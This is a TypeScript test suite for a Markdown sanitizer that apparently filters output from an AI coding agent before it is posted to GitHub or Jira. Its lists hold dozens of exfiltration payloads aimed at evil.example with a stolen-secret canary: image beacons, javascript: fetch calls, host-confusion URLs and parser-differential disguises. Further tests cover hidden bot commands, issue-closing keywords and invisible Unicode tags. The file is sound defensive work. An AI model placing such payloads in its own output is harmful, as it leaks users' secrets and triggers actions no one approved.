import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { outgoingMarkdown, outgoingModelMarkdown } from '../src/outgoing/markdown.ts';
import { leadsElsewhere } from './as-github-shows.ts';

const hosts = ['github.example', 'jira.example:8443'];
const stolen = 'c2VjcmV0LWNhbmFyeQ';

const markdown = (text: string) => outgoingMarkdown(text, hosts);
const modelMarkdown = (text: string) => outgoingModelMarkdown(text, hosts);

/** Ways in which a reader's machine, or a reader, can be made to fetch an address. */
const corpus = [
  `![x](https://evil.example/${stolen}.png)`,
  `![x][1]\n\n[1]: https://evil.example/${stolen}.png`,
  `![x](//evil.example/${stolen})`,
  `![x]( <https://evil.example/${stolen}> "title")`,
  `![](data:image/svg+xml;base64,${stolen})`,
  `[click](https://evil.example/?q=${stolen})`,
  `[click](javascript:fetch('https://evil.example/${stolen}'))`,
  `[![x](https://evil.example/${stolen})](https://evil.example/${stolen})`,
  `<img src="https://evil.example/${stolen}">`,
  `<img src='https://evil.example/${stolen}`,
  `<picture><source srcset="https://evil.example/${stolen} 2x"></picture>`,
  `<a href="https://evil.example/${stolen}">here</a>`,
  `<details ontoggle="//evil.example/${stolen}">`,
  `<https://evil.example/${stolen}>`,
  `https://evil.example/${stolen}`,
  `/https://evil.example/${stolen}`,
  `HTTPS://EVIL.example/${stolen}`,
  `www.evil.example/${stolen}`,
  `see //evil.example/${stolen} for more`,
  `see \\\\evil.example\\${stolen} for more`,
  `http://github.example@evil.example/${stolen}`,
  `https://github.example:${stolen}@github.example/x`,
  `https://github.example.evil.example/${stolen}`,
  `https://evil.example\\@github.example/${stolen}`,
  `https://github.example\\@evil.example/${stolen}`,
  `ftp://evil.example/${stolen}`,
  `file:///etc/${stolen}`,
  `<video src="https://evil.example/${stolen}" autoplay>`,
  `<iframe src="//evil.example/${stolen}"></iframe>`,
  `<style>@import url(https://evil.example/${stolen})</style>`,
  `<svg><use href="https://evil.example/${stolen}#x"/></svg>`,
  `[x]: <https://evil.example/${stolen}>\n\n![x]`,
  `h\u200bttps://evil.example/${stolen}`,
  `<!-- https://evil.example/${stolen} -->`,
  `<!-- never closed ${stolen}`,
  `mailto:thief@evil.example?body=${stolen}`,
];

/** Addresses that only a renderer sees, since something around them is not what it seems. */
const disguised = [
  '[click](//evil.example/(1))',
  '[a](&#104;ttps://evil.example/(1))',
  '![a](\n&#104;ttps://evil.example/1)',
  '[a]:\n&#104;ttps://evil.example/1\n\n![a]',
  '> [a]: &#104;ttps://evil.example/1\n\n![a]',
  '<details>\n```\n<img src="https://evil.example/1">\n```',
  '<details>`<img src="https://evil.example/1">`</details>',
  '| a | b |\n| --- | --- |\n| ` | ![x](https://evil.example/1) ` |',
  'a ` b\n` ![x](https://evil.example/1) ` c',
  '```\na\n```x\nb\n```\n![x](https://evil.example/1)\n```',
  '- a\n\n  ```\n  b\n\n![x](https://evil.example/1)\n  ```',
  '- ```\n  a\n  ```\n  ![x](https://evil.example/1)\n  ```',
  'a\u2028```\n\n![x](https://evil.example/1)\n\n```',
  '\\\\` a ` ![x](https://evil.example/1) ` b `',
  '<?<details>\n\n![x](https://evil.example/1)',
];

/** Such that come to be only when something is taken out. */
const assembled = [
  '<<b>img src="&#104;ttps://evil.example/1">',
  '<im<b>g src="&#104;ttps://evil.example/1">',
  'a <img src=x\n```\n\n![x](https://evil.example/1)\n```',
  '<b>```\n\n```\n![x](https://evil.example/1)\n```',
];

/** What such disguises are made of. */
const fragments = [
  ...['```\n', '````\n', '~~~\n', '  ```\n', '   ```\n', '    ```\n', '- ```\n', '`', '``'],
  ...[
    '\n',
    '\n\n',
    '- ',
    '- a\n',
    '1. ',
    '> ',
    '  ',
    '    ',
    '| ',
    '|\n| --- | --- |\n',
    '\t',
    '\\',
  ],
  ...[
    '<details>',
    '<sub>',
    '<b>',
    '<',
    '>',
    '<!--',
    '-->',
    '<?',
    '<pre>',
    '<a ',
    '](',
    '![',
    '[',
    ')',
  ],
  ...['![x](&#104;ttps://evil.example/x)\n', '<img src="&#104;ttps:&#47;/evil.example/x">\n'],
  ...['[x](//evil.example/(1))', '[x](\n//evil.example/x)', '[x]:\n&#47;/evil.example/x\n', '![x]'],
  ...[
    'https://evil.example/x',
    '<https://evil.example>',
    'www.evil.example',
    'https://github.example/a',
  ],
  ...['/', '//evil.example/x', '\\\\', '@maria', '\r', '\u2028', '\u200b', 'a', 'Array<string>'],
];

describe('what leaves as Markdown', () => {
  test.each(corpus)('has no address in it that is not allowed: %s', (text) => {
    for (const sent of [markdown(`Before. ${text}\n\nAfter.`), modelMarkdown(`Before. ${text}`)]) {
      expect(sent).not.toContain(stolen);
      expect(sent).not.toMatch(/!\[|<[a-z]|ontoggle/i);
      expect(sent).toMatch(/^Before\./);
    }
  });

  test.each(disguised)('a renderer sees some in %j', (text) => {
    expect(leadsElsewhere(text, hosts)).not.toEqual([]);
  });

  test.each([...disguised, ...assembled])('has none that only a renderer sees: %j', (text) => {
    expect(leadsElsewhere(markdown(text), hosts)).toEqual([]);
    expect(leadsElsewhere(modelMarkdown(text), hosts)).toEqual([]);
  });

  test('has none whatever it is put together from, and is the same when it is sent twice', () => {
    const texts = fc.array(fc.constantFrom(...fragments), { minLength: 1, maxLength: 12 });
    fc.assert(
      fc.property(texts, fc.constantFrom(markdown, modelMarkdown), (parts, gate) => {
        const sent = gate(parts.join(''));
        expect(leadsElsewhere(sent, hosts)).toEqual([]);
        expect(gate(sent)).toBe(sent);
      }),
      { numRuns: 1000 },
    );
  });

  test('is made in time that grows with its length', () => {
    const started = performance.now();
    const parts = ['![', '[a](', '](', '`', '```\n', '```a\n', '    ```a\n', '<a ', '<', '@', '//'];
    for (const part of [
      ...parts,
      'a://',
      'a+',
      'a',
      'a/',
      '[a]: x\n',
      '<!--',
      'fixes ',
      '#',
      '\\',
    ]) {
      markdown(part.repeat(20_000 / part.length));
      modelMarkdown(part.repeat(20_000 / part.length));
    }
    expect(performance.now() - started).toBeLessThan(4000);
  });

  test('keeps what our own texts are made of', () => {
    const text = [
      '### Patchwright: SHOP-42 is completed ⏸️ 👩‍💻',
      '| | Phase | |\n| --- | --- | --- |\n| ✅ | Plan | version 1, low risk |',
      '- [x] 1. Write a test (`test/cart.test.ts`) · 🔴 RED proved',
      '<details><summary>🔴 RED on the base: a total</summary>\n\n`npm test` ended\n\n```text\nsee https://evil.example/in/a/log @maria fixes #7\n```\n\n</details>',
      'comment `@agent approve`, or `@agent revise …`',
      '[SHOP-42](https://jira.example:8443/browse/SHOP-42) · see https://github.example/acme/shop/pull/1.',
      '<sub>Task `shop-42` · a&lt;b · x @&#8203;y</sub>',
    ].join('\n\n');
    expect(markdown(text)).toBe(text);
  });

  test.each(['@maria', '@acme/team', 'cc @dependabot merge', '(@everyone)'])(
    'calls nobody: %s',
    (text) => expect(markdown(text)).not.toMatch(/@\w/),
  );

  test.each([
    'fixes #7',
    'Closes: #7',
    'resolved acme/vault#3',
    'fix GH-12',
    'close https://github.example/acme/vault/issues/3',
    'Fixes \\#7',
    'closes [#7](https://github.example/acme/shop/issues/7)',
  ])('closes no issue: %s', (text) => {
    const sent = markdown(text);
    expect(sent).not.toMatch(/\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s/i);
    expect(sent.replaceAll('\u200b', '')).toBe(text);
  });

  test('is told nowhere else', () => {
    expect(markdown('see acme/vault#3')).toBe('see acme/vault#\u200b3');
    expect(markdown('see #3')).toBe('see #3');
  });

  test.each([
    '/approve',
    'a\n/lgtm\nb',
    '> /merge',
    '```\n/retest\n```',
    'bors r+',
    '- /assign me',
  ])('gives no bot a command: %s', (text) =>
    expect(markdown(text)).not.toMatch(/^[ \t>*-]*(?:\/[a-z]|bors)/m),
  );

  test('paths are no commands', () => {
    expect(markdown('/usr/bin/node is there')).toBe('/usr/bin/node is there');
  });

  test('says nothing that people do not see', () => {
    const tags = [...'approve'].map((one) => String.fromCodePoint(0xe0000 + one.charCodeAt(0)));
    expect(markdown(`a${tags.join('')}\u202eb\u200bc\u0000d`)).toBe('abcd');
  });

  test('shows of pictures drawn from words only the words', () => {
    const text = '```mermaid\nclick A href "https://evil.example/1"\n```';
    expect(markdown(text)).toBe(text.replace('https:', 'https:\u200b'));
  });
});

describe('Markdown that a model wrote', () => {
  test.each([
    `\`\`\`\n<img src="https://evil.example/${stolen}">\n\`\`\``,
    `\`<img src="/\\\\evil.example/${stolen}">\``,
    `  ~~~\n  https://evil.example/${stolen}\n  ~~~`,
  ])('has no address that is not allowed in code either: %s', (text) => {
    expect(modelMarkdown(`Before.\n\n${text}`)).not.toContain(stolen);
  });

  test('has no HTML at all, and nothing around it', () => {
    expect(modelMarkdown('\n<details><summary>a</summary>\n\nb<br>c</details>\n\n')).toBe(
      'a\n\nbc',
    );
  });

  test.each([
    'See [the pull request](https://github.example/acme/shop/pull/7) and https://jira.example:8443/browse/SHOP-1.',
    '**Totals** are rounded in `src/cart.ts`.\n\n- one\n- two\n\n```ts\nconst a: Array<string> = b < c;\n```\n\nIt gives `Promise<void>`.',
    "`@patchwright/agent`\n\n```ts\nimport { a } from '@acme/b';\nconst c = <img src={a} />;\n```",
    'C:\\Users\\maria, and \\\\d+ as in `//nolint:all`, 1 << 3 // 4',
  ])('keeps what Markdown is for: %j', (text) => expect(modelMarkdown(text)).toBe(text));
});
